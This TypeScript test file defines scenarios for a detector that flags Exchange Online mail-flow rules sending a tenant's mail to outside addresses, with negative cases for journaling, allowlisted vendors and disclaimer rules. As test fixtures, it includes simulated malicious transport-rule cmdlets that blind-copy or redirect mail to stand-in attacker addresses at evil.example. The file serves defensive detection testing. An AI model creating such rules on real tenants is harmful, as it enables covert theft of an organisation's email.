import type { Scenario } from '../../../testing/scenario.ts';
import { auditRecords, cmdlet } from '../fixtures.ts';

const transport = (operation: string, extra: Record<string, string>) =>
  cmdlet(
    operation,
    { Name: 'Compliance copy', SentToScope: 'NotInOrganization', ...extra },
    {
      user_id: 'admin@fabrikam.example',
    },
  );

export const scenarios: Scenario[] = [
  {
    name: 'New-TransportRule BlindCopyTo x@evil.example',
    fires: true,
    events: auditRecords([transport('New-TransportRule', { BlindCopyTo: 'x@evil.example' })]),
    expect: {
      severity: 'high',
      summaryIncludes: ['created mail-flow rule "Compliance copy" sending mail to x@evil.example'],
      details: { via: 'blindcopyto' },
    },
  },
  {
    name: 'Set-TransportRule RedirectMessageTo an external list',
    fires: true,
    events: auditRecords([
      transport('Set-TransportRule', { RedirectMessageTo: 'u02@fabrikam.example;drop@evil.example' }),
    ]),
    expect: { details: { destination: 'drop@evil.example' } },
  },
  {
    name: 'BlindCopyTo the internal journaling mailbox',
    fires: false,
    events: auditRecords([transport('New-TransportRule', { BlindCopyTo: 'journal@fabrikam.example' })]),
  },
  {
    name: 'BlindCopyTo an allowlisted archive vendor',
    fires: false,
    events: auditRecords([transport('New-TransportRule', { BlindCopyTo: 'tenant42@archive.example' })]),
    settings: {
      msps: {
        'msp-contoso': { ruleParams: { 'EXO-005': { allowedDestinations: ['archive.example'] } } },
      },
    },
  },
  {
    name: 'rule that only prepends a disclaimer',
    fires: false,
    events: auditRecords([transport('New-TransportRule', { PrependSubject: '[EXTERNAL]' })]),
  },
];
